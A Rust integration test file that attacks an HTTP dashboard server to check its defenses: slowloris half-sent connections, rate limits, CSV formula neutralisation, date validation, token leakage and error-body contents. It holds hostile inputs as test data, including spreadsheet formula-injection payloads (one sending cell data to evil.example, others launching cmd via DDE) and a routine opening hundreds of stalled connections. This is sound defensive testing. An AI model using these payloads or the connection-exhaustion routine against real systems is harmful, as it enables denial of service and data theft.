//! The HTTP server from an attacker's side: connections held half-sent (slowloris), embeds and
//! panels requested past their budgets, formulas planted in CSV cells, dates no calendar
//! holds, tokens looked for in the logs and in Referer headers, error bodies searched for
//! server internals, the data directory's modes, and a link that tries to run SQL with the
//! victim's stored token.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use fantoccini::Locator;
use parwatch_proto::Channel;
use parwatch_proto::testing::TestEvent;
use reqwest::header::HeaderMap;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::harness::browser::Browser;
use crate::harness::{
    LocalNats, Outgoing, Parwatch, SECRET, create_token, embed_token, get_with, publish,
    valid_messages,
};

/// A dashboard of the attacker's interest: a SQL table of publisher-controlled text beside
/// negative numbers, and a metric tile (dates arithmetic on the range).
const HOSTILE_DASHBOARD: &str = r#"
title = { vi = "Thử tấn công", en = "Hostile" }
agency = "none"
default_range = "30d"

[[panels]]
id = "cells"
title = { vi = "Ô", en = "Cells" }
chart = "table"
sql = """
SELECT dossier_id AS cell, CAST(-3 AS BIGINT) AS n FROM events WHERE dossier_id NOT LIKE 'D-%'
UNION ALL
SELECT raw AS cell, CAST(-4 AS BIGINT) AS n FROM rejected_events
ORDER BY cell
"""

[[panels]]
id = "received"
title = { vi = "Hồ sơ tiếp nhận", en = "Received" }
metric = "received"
chart = "stat"
"#;

/// Dossier ids a publisher may choose, each a formula to a spreadsheet.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
];

/// The body of a message that is not JSON: stored as a rejected event's `raw`.
const FORMULA_RAW: &str = "=cmd|' /C calc'!A0";

/// Valid events beside the hostile ones.
const VALID: usize = 60;

/// A lake holding valid events, hostile dossier ids and a hostile rejected message, served by
/// `parwatch up` with the hostile dashboard and embedding, behind an admin token.
struct HostileLake {
    _tmp: tempfile::TempDir,
    _nats: LocalNats,
    server: Parwatch,
    admin: String,
    data: PathBuf,
    dashboards: PathBuf,
}

fn hostile_messages() -> Vec<Outgoing> {
    let mut messages = valid_messages(0..VALID, false);
    for (i, id) in FORMULAS.iter().enumerate() {
        let event = TestEvent::received(Channel::Counter)
            .id(format!("hostile-{i}"))
            .at("2024-04-02T09:00:00+07:00")
            .source("motcua-test")
            .agency("000.00.01.H02")
            .dossier(*id)
            .due("2024-04-16T17:00:00+07:00");
        messages.push(Outgoing::event(&event));
    }
    messages.push(Outgoing {
        subject: "par.events.v1.dossier.received".to_owned(),
        body: FORMULA_RAW.as_bytes().to_vec(),
        msg_id: None,
    });
    messages
}

impl HostileLake {
    async fn start(env: &[(&str, &str)]) -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let nats = LocalNats::start(&tmp.path().join("nats")).unwrap();
        let published = publish(&nats.url(), hostile_messages()).await;
        let data = tmp.path().join("data");
        let dashboards = tmp.path().join("dashboards");
        std::fs::create_dir_all(&dashboards).unwrap();
        std::fs::write(dashboards.join("hostile.toml"), HOSTILE_DASHBOARD).unwrap();
        let admin = create_token(&data, "admin", None);
        let args = [
            "--dashboards",
            dashboards.to_str().unwrap(),
            "--embed-secret",
            SECRET,
        ];
        let server = Parwatch::up_with_env(&nats.url(), &data, &args, env).await;
        let lake = Self {
            _tmp: tmp,
            _nats: nats,
            server,
            admin,
            data,
            dashboards,
        };
        let sql = "SELECT (SELECT count(*) FROM events) + (SELECT count(*) FROM rejected_events)";
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let answer = lake.sql(sql).await;
            if answer["rows"][0][0] == json!(published) {
                break;
            }
            assert!(Instant::now() < deadline, "{answer}");
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        lake
    }

    fn base(&self) -> &str {
        self.server.base()
    }

    /// Runs SQL as the admin; the JSON answer.
    async fn sql(&self, sql: &str) -> Value {
        let response = self.server.post_sql(Some(&self.admin), sql, None).await;
        let status = response.status();
        let text = response.text().await.unwrap();
        assert_eq!(status, 200, "{sql}: {text}");
        serde_json::from_str(&text).unwrap()
    }

    /// An embed token for the hostile dashboard, living `ttl` (tokens of one second and one
    /// lifetime are the same token).
    fn embed(&self, ttl: &str) -> String {
        embed_token(
            &self.data,
            &self.dashboards,
            &["--dashboard", "hostile", "--ttl", ttl],
        )
        .unwrap()
    }
}

/// A client whose connections come from `ip` (any 127.x.y.z is this machine).
fn client_from(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(IpAddr::V4(Ipv4Addr::from(ip)))
        .build()
        .unwrap()
}

/// Opens `n` connections that send the start of a request and never finish its headers.
async fn half_sent(addr: SocketAddr, n: usize) -> Vec<TcpStream> {
    let mut held = Vec::with_capacity(n);
    for _ in 0..n {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: a")
            .await
            .unwrap();
        held.push(stream);
    }
    held
}

/// Waits until the server closes `stream` (EOF or reset); how long that took, or `None`
/// when it stayed open past `limit`.
async fn closed_within(stream: &mut TcpStream, limit: Duration) -> Option<Duration> {
    let started = Instant::now();
    let mut buf = [0u8; 1024];
    loop {
        match tokio::time::timeout_at(
            tokio::time::Instant::from_std(started + limit),
            stream.read(&mut buf),
        )
        .await
        {
            Err(_) => return None,
            Ok(Ok(0) | Err(_)) => return Some(started.elapsed()),
            // A 408 or similar before the close: keep reading to the end.
            Ok(Ok(_)) => {}
        }
    }
}

fn addr_of(base: &str) -> SocketAddr {
    base.trim_start_matches("http://").parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_sent_requests_are_cut_off_and_the_server_keeps_answering() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let admin = create_token(&data, "admin", None);
    let env = [
        ("PARWATCH_HTTP_HEADER_TIMEOUT", "2"),
        ("PARWATCH_SQL_TIMEOUT", "2"),
        ("PARWATCH_HTTP_IDLE_TIMEOUT", "4"),
    ];
    let server = Parwatch::serve_with(&data, &[], &env).await;
    let addr = addr_of(server.base());

    // Slowloris: 300 connections, each a request whose headers never end.
    let mut held = half_sent(addr, 300).await;
    let started = Instant::now();
    let health = server.get(None, "/healthz").await;
    assert_eq!(health.status(), 200);
    let health_ms = started.elapsed().as_millis();
    let started = Instant::now();
    let answer = server.post_sql(Some(&admin), "SELECT 41 + 1", None).await;
    assert_eq!(answer.status(), 200);
    let sql_ms = started.elapsed().as_millis();
    assert!(
        health_ms < 1000 && sql_ms < 2000,
        "/healthz {health_ms} ms, SQL {sql_ms} ms"
    );
    // Every half-sent request is closed after the header timeout, none long before it.
    let mut slowest = Duration::ZERO;
    for stream in &mut held {
        let took = closed_within(stream, Duration::from_secs(8))
            .await
            .expect("a half-sent request still open 8 s on (header timeout 2 s)");
        slowest = slowest.max(took);
    }
    eprintln!(
        "slowloris: 300 half-sent requests; /healthz answered in {health_ms} ms and SQL in \
         {sql_ms} ms meanwhile; all 300 closed by the server within {slowest:?} of the check"
    );

    // A kept-alive connection left idle is closed too (the header timeout runs between
    // requests).
    let mut idle = TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 512];
    let n = idle.read(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"));
    let took = closed_within(&mut idle, Duration::from_secs(8)).await;
    assert!(
        took.is_some_and(|t| t >= Duration::from_millis(1500)),
        "{took:?}"
    );

    // A body sent a byte now and then: the idle timeout (4 s) closes the connection.
    let mut slow_body = TcpStream::connect(addr).await.unwrap();
    slow_body
        .write_all(
            format!(
                "POST /api/v1/sql HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {admin}\r\n\
                 Content-Length: 100\r\n\r\n{{\"sql\""
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    let took = closed_within(&mut slow_body, Duration::from_secs(10)).await;
    assert!(
        took.is_some_and(|t| t >= Duration::from_secs(3)),
        "a stalled body: {took:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn past_the_connection_cap_a_client_waits_for_a_slot_instead_of_exhausting_the_process() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let env = [
        ("PARWATCH_HTTP_HEADER_TIMEOUT", "2"),
        ("PARWATCH_HTTP_MAX_CONNECTIONS", "40"),
    ];
    let server = Parwatch::serve_with(&data, &[], &env).await;
    let addr = addr_of(server.base());
    // Settle the readiness poll's own connection before filling every slot.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let held = half_sent(addr, 40).await;
    let started = Instant::now();
    let health = reqwest::Client::new()
        .get(format!("{}/healthz", server.base()))
        .timeout(Duration::from_secs(10))
        .send()
        .await
        .unwrap();
    let waited = started.elapsed();
    assert_eq!(health.status(), 200);
    // Served once the half-sent ones were cut off (2 s), not before and not never.
    assert!(
        waited >= Duration::from_millis(1200) && waited < Duration::from_secs(6),
        "{waited:?}"
    );
    eprintln!("connection cap 40, all held half-sent: the 41st client answered after {waited:?}");
    drop(held);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn embeds_past_their_budgets_get_429_and_other_clients_do_not() {
    let lake = HostileLake::start(&[
        ("PARWATCH_EMBED_CLIENT_PER_MINUTE", "40"),
        ("PARWATCH_EMBED_TOKEN_PER_MINUTE", "60"),
        ("PARWATCH_SQL_RUNNING", "1"),
        ("PARWATCH_PANELS_PER_MINUTE", "20"),
        ("PARWATCH_HTTP_FORWARDED_FOR", "true"),
    ])
    .await;
    let (first, second) = (lake.embed("1h"), lake.embed("2h"));
    assert_ne!(first, second);
    let panel = |token: &str| {
        format!(
            "{}/embed/api/panels/cells?token={token}&from=2024-01-01&to=2024-12-31",
            lake.base()
        )
    };
    let count = |outcomes: &[(u16, HeaderMap, String)], status: u16| {
        outcomes.iter().filter(|o| o.0 == status).count()
    };
    // One client hammering one embed: its address's budget (40 a minute) runs out.
    let a = client_from([127, 0, 0, 1]);
    let started = std::time::Instant::now();
    let mut outcomes = Vec::new();
    for _ in 0..60 {
        outcomes.push(get_with(&a, &panel(&first)).await);
    }
    // The budgets refill as time passes, one request every 1.5 s (the address's) and every
    // second (the embed's): a slow run, on a loaded machine, gets that many more through.
    let refilled = |per_second: f64| (started.elapsed().as_secs_f64() * per_second) as usize + 1;
    let (a_ok, a_refused) = (count(&outcomes, 200), count(&outcomes, 429));
    assert!(
        (40..=40 + refilled(1.0 / 1.5)).contains(&a_ok),
        "{a_ok}: {:?}",
        outcomes.last()
    );
    assert_eq!(a_ok + a_refused, 60);
    for (_, retry, body) in outcomes.iter().filter(|o| o.0 == 429) {
        let seconds: u64 = retry["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&seconds), "{seconds}");
        assert!(body.contains("rate limit"), "{body}");
    }
    // The version poll counts against the address too.
    let version = format!("{}/embed/api/version?token={first}", lake.base());
    let mut polls = Vec::new();
    for _ in 0..3 {
        polls.push(get_with(&a, &version).await.0);
    }
    assert!(polls.contains(&429), "{polls:?}");
    // From another address the same embed has 20 requests left of its 60.
    let b = client_from([127, 0, 0, 2]);
    let mut outcomes_b = Vec::new();
    for _ in 0..30 {
        outcomes_b.push(get_with(&b, &panel(&first)).await);
    }
    let (b_ok, b_refused) = (count(&outcomes_b, 200), count(&outcomes_b, 429));
    let left = 60 - a_ok + refilled(1.0);
    assert!(
        b_ok <= left && (left >= 30 || b_refused >= 1),
        "{b_ok} / {b_refused}, {left} left"
    );
    assert_eq!(b_ok + b_refused, 30);
    // Refused by the embed's budget, not the new address's.
    assert!(b_refused == 0 || outcomes_b.iter().any(|o| o.2.contains("this embed")));
    // Another client with another embed is not held back.
    let c = client_from([127, 0, 0, 3]);
    for _ in 0..30 {
        let (status, _, body) = get_with(&c, &panel(&second)).await;
        assert_eq!(status, 200, "{body}");
    }
    eprintln!(
        "embed budgets: client A {a_ok} × 200, {a_refused} × 429; client B on the same token \
         {b_ok} × 200, {b_refused} × 429; client C on another token 30 × 200"
    );

    // Behind a proxy on this host, each forwarded client has its own budget: one spends it,
    // the next is served.
    let third = lake.embed("3h");
    let proxy = client_from([127, 0, 0, 5]);
    let from_proxy = |client: &'static str| {
        proxy
            .get(panel(&third))
            .header("x-forwarded-for", format!("198.51.100.77, {client}"))
            .send()
    };
    let mut spent = Vec::new();
    for _ in 0..45 {
        spent.push(from_proxy("203.0.113.1").await.unwrap().status().as_u16());
    }
    assert!(spent.contains(&429), "{spent:?}");
    assert_eq!(from_proxy("203.0.113.2").await.unwrap().status(), 200);

    // A viewer's token has its own panel budget (20 a minute here).
    let mut viewer = Vec::new();
    for _ in 0..30 {
        let response = lake
            .server
            .get(
                Some(&lake.admin),
                "/api/v1/dashboards/hostile/panels/received?from=2024-01-01&to=2024-12-31",
            )
            .await;
        viewer.push(response.status().as_u16());
    }
    let viewer_refused = viewer.iter().filter(|s| **s == 429).count();
    assert!(
        (5..=10).contains(&viewer_refused) && viewer.iter().all(|s| *s == 200 || *s == 429),
        "{viewer:?}"
    );
    eprintln!(
        "viewer panels: {} × 200, {viewer_refused} × 429",
        30 - viewer_refused
    );

    // One SQL statement at a time (PARWATCH_SQL_RUNNING=1): while a long query runs, an
    // embed's SQL panel waits briefly, then is refused with 429.
    let d = client_from([127, 0, 0, 4]);
    let long = tokio::spawn({
        let url = format!("{}/api/v1/sql", lake.base());
        let admin = lake.admin.clone();
        async move {
            reqwest::Client::new()
                .post(url)
                .bearer_auth(admin)
                .json(&json!({"sql": "SELECT count(*) FROM generate_series(1, 3000000000) a(v) WHERE v % 7 = 3"}))
                .send()
                .await
                .map(|r| r.status().as_u16())
        }
    });
    tokio::time::sleep(Duration::from_millis(500)).await;
    let started = Instant::now();
    let (status, retry, body) = get_with(&d, &panel(&second)).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(retry["retry-after"], "1");
    assert!(body.contains("at once"), "{body}");
    assert!(started.elapsed() >= Duration::from_millis(1500));
    long.abort();
    // Metric panels need no SQL slot and /healthz no budget at all.
    assert_eq!(lake.server.get(None, "/healthz").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_downloads_neutralise_formulas_and_keep_numbers() {
    let lake = HostileLake::start(&[]).await;
    let token = lake.embed("1h");
    let range = "from=2024-01-01&to=2024-12-31&format=csv";
    let sql = "SELECT dossier_id AS cell, CAST(-3 AS BIGINT) AS n FROM events \
               WHERE dossier_id NOT LIKE 'D-%' UNION ALL \
               SELECT raw AS cell, CAST(-4 AS BIGINT) AS n FROM rejected_events ORDER BY cell";
    let over_sql = lake
        .server
        .post_sql(Some(&lake.admin), sql, Some("csv"))
        .await
        .text()
        .await
        .unwrap();
    let app_panel = lake
        .server
        .get(
            Some(&lake.admin),
            &format!("/api/v1/dashboards/hostile/panels/cells?{range}"),
        )
        .await
        .text()
        .await
        .unwrap();
    let (status, _, embed_panel) = get_with(
        &reqwest::Client::new(),
        &format!(
            "{}/embed/api/panels/cells?token={token}&{range}",
            lake.base()
        ),
    )
    .await;
    assert_eq!(status, 200, "{embed_panel}");
    for (source, csv) in [
        ("SQL", &over_sql),
        ("panel", &app_panel),
        ("embed", &embed_panel),
    ] {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), FORMULAS.len() + 1, "{source}: {csv}");
        for row in &rows {
            let (cell, n) = (&row[0], &row[1]);
            assert!(
                cell.starts_with('\''),
                "{source}: a formula cell not neutralised: {cell:?}"
            );
            assert!(
                FORMULAS.contains(&&cell[1..]) || &cell[1..] == FORMULA_RAW,
                "{source}: {cell:?}"
            );
            assert!(
                n == "-3" || n == "-4",
                "{source}: a number is still a number: {n:?}"
            );
        }
    }
    // Metric panels' CSV goes through the same writer: numbers stay bare.
    let (status, _, tile) = get_with(
        &reqwest::Client::new(),
        &format!(
            "{}/embed/api/panels/received?token={token}&{range}",
            lake.base()
        ),
    )
    .await;
    assert_eq!(status, 200, "{tile}");
    assert!(
        tile.starts_with("period,from,to,agency_code,rank,value"),
        "{tile}"
    );
    assert!(tile.contains("current,2024-01-01,2024-12-31,"), "{tile}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dates_no_calendar_holds_are_refused_with_400_and_panic_nothing() {
    let lake = HostileLake::start(&[]).await;
    let token = lake.embed("1h");
    let base = lake.base().to_owned();
    let client = reqwest::Client::new();
    let dates = [
        "-262143-01-01",
        "+262142-12-31",
        "0000-01-01",
        "1899-12-31",
        "10000-01-01",
    ];
    for date in dates {
        let both = format!("from={date}&to={date}");
        let early = format!("from={date}&to=2024-12-31");
        let urls = [
            format!("{base}/embed/api/panels/received?token={token}&{both}"),
            format!("{base}/embed/api/panels/cells?token={token}&{early}"),
            format!("{base}/api/v1/dashboards/hostile/panels/received?{both}"),
            format!("{base}/api/v1/metrics/received?{both}&bucket=day"),
            format!("{base}/api/v1/metrics/received?to={date}"),
            format!("{base}/api/v1/ranking?metric=received&{both}"),
        ];
        for url in urls {
            let response = client
                .get(&url)
                .bearer_auth(&lake.admin)
                .send()
                .await
                .unwrap_or_else(|e| panic!("{url}: no answer (a panic drops the connection): {e}"));
            let status = response.status().as_u16();
            let body: Value = response.json().await.unwrap();
            assert_eq!(status, 400, "{url}: {body}");
            let error = body["error"].as_str().unwrap();
            assert!(
                error.contains("1900-01-01 to 9999-12-31") || error.contains("is not a date"),
                "{url}: {error}"
            );
        }
    }
    for year in ["-262143", "0", "1899", "10000", "99999999999"] {
        let response = client
            .get(format!("{base}/api/v1/par-index?year={year}"))
            .bearer_auth(&lake.admin)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 400, "year {year}");
    }
    // The widest range allowed is answered, day buckets refused for their number only.
    let response = client
        .get(format!(
            "{base}/embed/api/panels/received?token={token}&from=1900-01-01&to=9999-12-31"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(!lake.server.log_text().contains("panicked"));
    assert_eq!(lake.server.get(None, "/healthz").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn embed_tokens_reach_neither_referers_nor_logs_and_errors_say_nothing_internal() {
    let lake = HostileLake::start(&[]).await;
    let token = lake.embed("1h");
    let signature = token.rsplit('.').next().unwrap().to_owned();
    let base = lake.base().to_owned();
    let client = reqwest::Client::new();
    let page_url = format!("{base}/embed/hostile?token={token}");

    // The page and every asset it loads forbid sending their URL on.
    let page = client.get(&page_url).send().await.unwrap();
    assert_eq!(page.status(), 200);
    assert_eq!(page.headers()["referrer-policy"], "no-referrer");
    for asset in ["app.js", "api.js", "pages.js", "app.css"] {
        let response = client
            .get(format!("{base}/assets/{asset}"))
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.headers()["referrer-policy"],
            "no-referrer",
            "{asset}"
        );
    }
    // A browser ignoring the policy, or an old one: the token in the query and the Referer,
    // a bearer token in Authorization.
    for path in [
        "/embed/api/dashboard",
        "/embed/api/panels/cells",
        "/embed/api/version",
    ] {
        let response = client
            .get(format!(
                "{base}{path}?token={token}&from=2024-01-01&to=2024-12-31"
            ))
            .header("referer", &page_url)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{path}");
    }
    let wrong = client
        .get(format!("{base}/embed/api/panels/nope?token={token}"))
        .header("referer", &page_url)
        .send()
        .await
        .unwrap();
    assert_eq!(wrong.status(), 404);

    // The embed's refresh number tells nothing of the province's event count.
    let (_, _, version) =
        get_with(&client, &format!("{base}/embed/api/version?token={token}")).await;
    let version: Value = serde_json::from_str(&version).unwrap();
    let events = lake.sql("SELECT count(*) FROM events").await["rows"][0][0].clone();
    let opaque = version["version"].as_str().expect("a string");
    assert_eq!(opaque.len(), 16, "{version}");
    assert_ne!(opaque, events.to_string());

    // Error bodies: no Rejection(..), no paths, no process internals.
    let data_dir = lake.data.to_str().unwrap().to_owned();
    let attempts = [
        client.get(format!("{base}/no/such/route")),
        client.delete(format!("{base}/api/v1/sql")),
        client.put(format!("{base}/healthz")),
        client
            .post(format!("{base}/api/v1/sql"))
            .bearer_auth(&lake.admin)
            .body("{\"sql\": "),
        client
            .post(format!("{base}/api/v1/embed-tokens"))
            .bearer_auth(&lake.admin)
            .header("content-type", "application/json")
            .body("[1, 2"),
        client.get(format!("{base}/api/v1/metrics/received?from=a&from=b")),
    ];
    let mut answers = Vec::new();
    for attempt in attempts {
        let response = attempt.send().await.unwrap();
        answers.push((response.status().as_u16(), response.text().await.unwrap()));
    }
    // A body announced over the limit (refused before it is read), and a chunked body,
    // its length unknown.
    let auth = format!(
        "Host: 127.0.0.1\r\nAuthorization: Bearer {}\r\n",
        lake.admin
    );
    let body = "{\"sql\": \"SELECT 1\"}";
    for request in [
        format!(
            "POST /api/v1/sql HTTP/1.1\r\n{auth}Content-Length: 2000000\r\n\
             Connection: close\r\n\r\n"
        ),
        format!(
            "POST /api/v1/sql HTTP/1.1\r\n{auth}Transfer-Encoding: chunked\r\n\
             Connection: close\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
            body.len()
        ),
    ] {
        answers.push(raw_exchange(addr_of(&base), &request).await);
    }
    let mut statuses = Vec::new();
    for (status, body) in answers {
        statuses.push(status);
        assert!((400..500).contains(&status), "{status}: {body}");
        let json: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{body}: {e}"));
        let error = json["error"].as_str().unwrap();
        for internal in ["Rejection", "unhandled", &data_dir, "/tmp", "/work", "src/"] {
            assert!(!error.contains(internal), "{status}: {error}");
        }
    }
    assert_eq!(statuses, [404, 405, 405, 400, 400, 400, 413, 411]);

    // Requests reached the log (their paths are there), the tokens did not.
    let log = lake.server.log_text();
    assert!(log.contains("/embed/api/panels/cells"), "{log}");
    assert!(!log.contains(&signature), "an embed token in the log");
    assert!(!log.contains(&lake.admin), "an API token in the log");
    assert!(!log.contains("?token"), "a query string in the log");
}

/// Sends `request` as it is on a new connection; the status and body of the answer.
async fn raw_exchange(addr: SocketAddr, request: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    // The server may close with unread bytes of ours pending: a reset after the answer.
    let _ = stream.read_to_end(&mut raw).await;
    let raw = String::from_utf8_lossy(&raw);
    let status = raw.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = raw.split_once("\r\n\r\n").map_or("", |(_, b)| b);
    (status, body.to_owned())
}

/// Every file and directory under `dir` (symbolic links not followed).
fn walk(dir: &Path) -> Vec<(PathBuf, std::fs::Metadata)> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(d) = pending.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                pending.push(path.clone());
            }
            if !meta.file_type().is_symlink() {
                found.push((path, meta));
            }
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_lake_snapshots_and_agency_directory_are_closed_to_other_users() {
    let mut lake = HostileLake::start(&[]).await;
    // The agency directory as simulate writes it, beside the lake.
    let names = lake.data.join("agencies.csv");
    let nats_url = lake._nats.url();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_parwatch"))
        .args(["simulate", "--nats-url", &nats_url, "--backfill"])
        .args(["--from", "2024-01-01", "--to", "2024-01-02", "--scale", "1"])
        .args(["--progress", "quiet", "--agencies-out"])
        .arg(&names)
        .output()
        .unwrap();
    // The directory is written before any event is published; only it matters here.
    assert!(names.exists(), "{}", String::from_utf8_lossy(&out.stderr));
    // A clean stop writes the projections' snapshot.
    assert!(lake.server.terminate().success());
    let found = walk(&lake.data);
    let lake_dir = lake.data.join("lake");
    assert!(
        found
            .iter()
            .any(|(p, _)| p.starts_with(lake_dir.join("projections"))),
        "no snapshot written: {found:?}"
    );
    assert!(
        found
            .iter()
            .any(|(p, _)| p.extension().is_some_and(|e| e == "parquet"))
    );
    assert!(found.iter().any(|(p, _)| *p == names));
    // The test harness's own log of the server is not the server's file.
    for (path, meta) in found
        .iter()
        .filter(|(p, _)| p.extension().is_none_or(|e| e != "log"))
    {
        let mode = meta.permissions().mode() & 0o777;
        assert_eq!(
            mode & 0o027,
            0,
            "{} is {mode:o}: writable by its group or open to everyone",
            path.display()
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_to_the_sql_page_fills_the_editor_but_runs_nothing_until_clicked() {
    let lake = HostileLake::start(&[]).await;
    let base = lake.base().to_owned();
    let b = Browser::start().await;
    // The victim's browser holds an admin token, as the app stores it after a sign-in.
    b.client
        .goto(&format!("{base}/assets/favicon.svg"))
        .await
        .unwrap();
    b.client
        .execute(
            "localStorage.setItem('parwatch.token', arguments[0]); return true;",
            vec![json!(lake.admin)],
        )
        .await
        .unwrap();
    // The browser's own request for /favicon.ico on that page is not the test's concern.
    tokio::time::sleep(Duration::from_millis(300)).await;
    b.console_errors().await;
    let marker = "linked-query-7f3a";
    let link = format!("{base}/#/sql?q=SELECT%20'{marker}'%20AS%20marker");
    b.open(&link, "sql page from a link").await;
    let editor = b
        .wait_for(
            "editor",
            "const e = document.querySelector('textarea[name=sql]'); return e && e.value",
        )
        .await;
    assert_eq!(editor, json!(format!("SELECT '{marker}' AS marker")));
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(
        !lake.server.log_text().contains(marker),
        "the linked query ran without a click"
    );
    let rows = b
        .client
        .find_all(Locator::Css(".sql-out tbody tr"))
        .await
        .unwrap();
    assert!(rows.is_empty());
    b.click("button[name=run]").await;
    b.wait_for(
        "the clicked query's result",
        "return document.querySelectorAll('.sql-out tbody tr').length === 1",
    )
    .await;
    assert!(lake.server.log_text().contains(marker), "the click ran it");
}
